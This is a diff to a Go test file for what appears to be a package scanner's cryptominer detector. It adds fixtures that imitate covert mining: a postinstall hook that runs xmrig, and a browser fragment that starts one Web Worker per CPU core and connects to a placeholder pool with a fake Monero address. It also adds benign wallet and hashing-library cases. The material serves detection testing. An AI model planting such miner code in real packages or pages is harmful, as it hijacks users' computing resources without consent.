@@ -62,8 +62,20 @@ func TestCryptominer(t *testing.T) {
 		{"spawned", map[string]string{"index.js": `require("child_process").spawn("./bin/xmrig", ["-o", "stratum+tcp://pool.example.invalid:3333", "--donate-level=1"])`}, finding.SeverityCritical},
 		{"install_script", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"./xmrig -o stratum+tcp://p.invalid:3333"}`)}, finding.SeverityCritical},
 		{"mining_docs_word", map[string]string{"index.js": `const topic = "data mining and text mining"`}, finding.SeverityNone},
+		// a browser miner: payout address, algorithm, pool socket
+		{"browser_payout", map[string]string{"index.js": `const W = "` + moneroTest + `";
+const src = "onmessage = async e => { const m = await WebAssembly.instantiateStreaming(fetch(e.data.wasm)); const ws = new WebSocket(e.data.pool); ws.onopen = () => ws.send(JSON.stringify({method: 'login', params: {login: e.data.w, algo: ['cn/r']}})) }";
+for (let i = 0; i < navigator.hardwareConcurrency; i++) new Worker(URL.createObjectURL(new Blob([src]))).postMessage({ pool: "wss://pool.example.invalid:3333", w: W })`}, finding.SeverityCritical},
+		{"address_and_cpus", map[string]string{"index.js": `const W = "` + moneroTest + `"; const ws = new WebSocket("wss://p.example.invalid"); for (let i = 0; i < navigator.hardwareConcurrency; i++) start(ws, W)`}, finding.SeverityHigh},
+		// a wallet library: an address in its examples, HTTP to its node
+		{"wallet_library", map[string]string{"index.js": `export const EXAMPLE = "` + moneroTest + `"; export async function balance(addr) { return (await fetch("https://node.example.invalid/json_rpc", {method: "POST", body: JSON.stringify({method: "get_balance", params: {addr}})})).json() }`}, finding.SeverityNone},
+		// a hashing library names the algorithm, with no payout address
+		{"hash_library", map[string]string{"index.js": `export const ALGORITHMS = ["cryptonight", "randomx"]; export function hash(buf, algo) { return native.hash(buf, algo) }`}, finding.SeverityNone},
 	})
 }
+
+// moneroTest is shaped like a Monero address (95 base58 characters from 4).
+var moneroTest = "4" + "A" + strings.Repeat("bcdefghijk", 9) + "mno"
 
 // bundlePad makes a file large enough to be taken for a bundle.
 var bundlePad = strings.Repeat("var a = b + c;\n", 40000)
